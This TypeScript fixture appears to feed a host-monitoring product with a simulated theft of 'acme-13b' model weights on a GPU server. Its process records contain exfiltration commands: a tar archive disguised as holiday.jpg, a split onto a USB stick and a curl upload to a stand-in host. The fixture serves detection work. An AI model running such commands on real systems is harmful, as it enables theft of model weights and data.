// What the agent of gpu-9 saw: a theft by shell, and twelve thousand workers that only serve.
import type { HostActivity, HostProcess, HostScans, OcsfEvent } from "@outweigh/schema";
import { day, hour, min, now } from "./time.ts";

const began = now - 3 * hour;
const shard = (n: number) => `/srv/models/acme-13b/model-0000${n}-of-00048.safetensors`;
const bytes = 543_750_000;

function process(over: Partial<HostProcess> & Pick<HostProcess, "pid" | "name" | "depth" | "below">): HostProcess {
  const startedAt = began + over.pid * 10;
  return {
    key: `${over.pid}:${startedAt}`,
    startedAt,
    touched: true,
    principal: "eve@gpu-9",
    models: ["acme-13b"],
    events: 1,
    files: [],
    fileCount: 0,
    readAtMost: 0,
    sent: [],
    sentCount: 0,
    sentAtMost: 0,
    firstAt: began,
    lastAt: began + min,
    ...over,
  };
}

/** One that is known as a parent alone. */
function parent(pid: number, name: string, depth: number, below: number): HostProcess {
  const { principal: _, startedAt: __, firstAt: ___, lastAt: ____, ...it } = process({ pid, name, depth, below });
  return { ...it, key: `named:${pid}`, touched: false, models: [], events: 0 };
}

const stick = { mount: "/media/usb", kind: "removable", type: "vfat", source: "/dev/sdb1" } as const;

const workers = 12_000;

const theft: HostProcess[] = [
  parent(1, "systemd", 0, workers + 8),
  parent(880, "sshd", 1, 6),
  parent(902, "bash", 2, 5),
  process({
    pid: 4699,
    name: "tar",
    depth: 3,
    below: 1,
    command: "tar -I zstd -cf /home/eve/holiday.jpg acme-13b",
    exe: "/usr/bin/tar",
    events: 49,
    files: [
      { path: shard(1), bytes, did: "open" },
      { path: shard(2), bytes, did: "open" },
      { path: shard(3), bytes, did: "open" },
    ],
    fileCount: 48,
    readAtMost: 48 * bytes,
  }),
  process({
    pid: 4700,
    name: "zstd",
    depth: 4,
    below: 0,
    command: "zstd",
    files: [{ path: "/home/eve/holiday.jpg", bytes: 24_800_000_000, did: "write", madeFrom: shard(1) }],
    fileCount: 1,
  }),
  process({
    pid: 4707,
    name: "split",
    depth: 3,
    below: 0,
    command: "split -b 4G holiday.jpg /media/usb/h",
    files: [
      { path: "/home/eve/holiday.jpg", bytes: 24_800_000_000, did: "open", madeFrom: shard(1) },
      { path: "/media/usb/haa", bytes: 4_000_000_000, did: "write", madeFrom: shard(1), onto: "vfat /dev/sdb1" },
      { path: "/media/usb/hab", bytes: 4_000_000_000, did: "write", madeFrom: shard(1), onto: "vfat /dev/sdb1" },
    ],
    fileCount: 8,
    readAtMost: 24_800_000_000,
  }),
  process({
    pid: 4711,
    name: "curl",
    depth: 3,
    below: 0,
    command: "curl -T /home/eve/holiday.jpg https://files.example/",
    exe: "/usr/bin/curl",
    files: [{ path: "/home/eve/holiday.jpg", bytes: 24_800_000_000, did: "open", madeFrom: shard(1) }],
    fileCount: 1,
    readAtMost: 24_800_000_000,
    sent: [{ address: "203.0.113.9", port: 443, atMost: 24_800_000_000, counted: 24_806_000_000 }],
    sentCount: 1,
    sentAtMost: 24_800_000_000,
  }),
  parent(1200, "containerd-shim", 1, workers),
];

/** The same tree, as the server sends it page by page. */
export const processes: HostProcess[] = [
  ...theft,
  ...Array.from({ length: workers }, (_, i) =>
    process({
      pid: 10_000 + i,
      name: "vllm",
      depth: 2,
      below: 0,
      principal: "svc-serve@gpu-9",
      container: "ab12".repeat(16),
      pod: `ml/serve-${i}`,
      files: [{ path: shard((i % 9) + 1), bytes, did: "open" }],
      fileCount: 1,
      readAtMost: bytes,
      lastAt: began + 2 * hour,
    }),
  ),
];

export const activity: HostActivity = {
  events: 12_062,
  firstAt: began,
  lastAt: now - min,
  gaps: [
    { source: "agent-gpu-9", from: began + 40 * min, to: began + 52 * min, reason: "no report for longer than 50 s" },
  ],
  sights: [
    { at: began, sensor: "fanotify" },
    { at: began + 52 * min, sensor: "poll" },
    { at: began + 60 * min, sensor: "fanotify" },
  ],
  egress: [
    {
      address: "203.0.113.9",
      port: 443,
      model: "acme-13b",
      artifact: `file:${shard(1)}`,
      atMost: 24_800_000_000,
      counted: 24_806_000_000,
      uncounted: 0,
      readAtMost: 48 * bytes,
      modelBytes: 26_100_000_000,
      processes: 1,
      firstAt: began + 4 * min,
      lastAt: began + 22 * min,
    },
    {
      address: "/dev/sdb1",
      onto: stick,
      model: "acme-13b",
      artifact: `file:${shard(1)}`,
      atMost: 8_000_000_000,
      counted: 8_000_000_000,
      uncounted: 0,
      readAtMost: 48 * bytes,
      modelBytes: 26_100_000_000,
      processes: 1,
      firstAt: began + 8 * min,
      lastAt: began + 9 * min,
    },
    {
      address: "10.0.3.44",
      port: 9000,
      model: "acme-13b",
      artifact: `file:${shard(1)}`,
      atMost: 4 * bytes,
      uncounted: 4,
      readAtMost: 48 * bytes,
      modelBytes: 26_100_000_000,
      processes: 4,
      firstAt: began + hour,
      lastAt: began + 2 * hour,
    },
  ],
  mounts: {
    at: now - hour,
    rows: [
      { path: "/media/usb", type: "vfat" },
      { path: "/data", type: "nfs4" },
    ],
  },
  carried: [
    { path: "/media/usb/haa", bytes: 4_000_000_000, did: "write", madeFrom: shard(1), onto: "vfat /dev/sdb1" },
    { path: "/media/usb/hab", bytes: 4_000_000_000, did: "write", madeFrom: shard(1), onto: "vfat /dev/sdb1" },
  ],
};

/** The events behind the theft. */
export const hostEvents: OcsfEvent[] = theft
  .filter((it) => it.touched)
  .flatMap((it, n) => [
    ...it.files.map((file, i) => event(it, file.did, began + n * 4 * min + i * 9000, file)),
    ...it.sent.map((to, i) => event(it, "send", began + n * 4 * min + 50_000 + i, it.files[0], to)),
  ]);

function event(
  it: HostProcess,
  operation: string,
  time: number,
  file?: HostProcess["files"][number],
  to?: HostProcess["sent"][number],
): OcsfEvent {
  return {
    id: `agent:${it.pid}-${time}`,
    source: "agent-gpu-9",
    time,
    class_uid: operation === "send" ? 4001 : 1001,
    category_uid: 1,
    activity_id: 14,
    type_uid: 100_114,
    severity_id: 1,
    status_id: 1,
    metadata: { version: "1.8.0", product: { name: "Outweigh agent" } },
    principal: it.principal ?? "",
    model: "acme-13b",
    artifact: `file:${file?.madeFrom ?? file?.path ?? ""}`,
    operation,
    weights: true,
    pid: it.pid,
    actor: { process: { pid: it.pid, name: it.name, cmd_line: it.command } },
    file: { path: file?.path, size: file?.bytes },
    ...(to && { dst_endpoint: { ip: to.address, port: to.port } }),
    unmapped: {
      sensor: "fanotify",
      at_most: to?.atMost ?? file?.bytes,
      ...(file?.madeFrom !== undefined && { made_from: `file:${file.madeFrom}` }),
      ...(file?.onto !== undefined && { onto: stick }),
    },
  };
}

const none = { items: [], total: 0 };
const same = {
  newCopies: none,
  firstLooked: none,
  goneCopies: none,
  changedCopies: none,
  newTokens: none,
  goneTokens: none,
  newListeners: none,
  goneListeners: none,
  newPaths: none,
  gonePaths: none,
};

const run = {
  version: "0.1.0",
  roots: ["/srv", "/home"],
  filesSeen: 412_880,
  bytesRead: 84_000_000,
  copies: 3,
  listeners: 2,
  tokens: 1,
  notSeen: 3,
  digest: "3f".repeat(32),
};

export const hostScans: HostScans = {
  runs: [
    {
      ...run,
      at: now - hour,
      startedAt: now - hour - 11_200,
      paths: 2,
      pathsBefore: 3,
      signed: { by: "gpu-9", key: `ed25519:${"5a".repeat(16)}`, finishedAt: now - hour },
      change: {
        ...same,
        newCopies: {
          items: [{ what: "/home/eve/holiday.jpg", says: "acme-13b, safetensors, undeclared" }],
          total: 1,
        },
        changedCopies: {
          items: [
            {
              what: "/srv/models/acme-13b",
              says: "acme-13b, safetensors",
              before: "acme-13b, safetensors, readable by other",
            },
          ],
          total: 1,
        },
        newTokens: {
          items: [
            {
              what: "/home/eve/.cache/huggingface/token",
              says: "hf: a token of Hugging Face; what it may do cannot be told offline, readable by other",
            },
          ],
          total: 1,
        },
        gonePaths: {
          items: [{ what: "any local user → /srv/models/acme-13b", says: "acme-13b, file-mode" }],
          total: 1,
        },
      },
    },
    { ...run, at: now - 8 * day, startedAt: now - 8 * day - 12_000, paths: 3, pathsBefore: 3, change: same },
    { ...run, at: now - 15 * day, startedAt: now - 15 * day - 12_900, paths: 3, copies: 2 },
  ],
  schedule: { everyHours: 168, by: "ana", at: now - 15 * day, nextAt: now + 6 * day },
  looked: [
    { kind: "file-mode", complete: true },
    { kind: "sudo", complete: false, why: "/etc/sudoers may not be read" },
  ],
  notSeen: [{ what: "/root", why: "may not be read" }],
  paths: [],
  asked: [
    { cloud: "aws", method: "GET", url: "https://s3.eu-central-1.amazonaws.com/acme-models?policy", status: 200 },
    { cloud: "aws", method: "GET", url: "https://s3.eu-central-1.amazonaws.com/acme-models?acl", status: 200 },
    {
      cloud: "hub",
      method: "GET",
      url: "https://huggingface.co/api/models/acme/acme-13b",
      status: 401,
      problem: "it answers 401",
    },
  ],
};
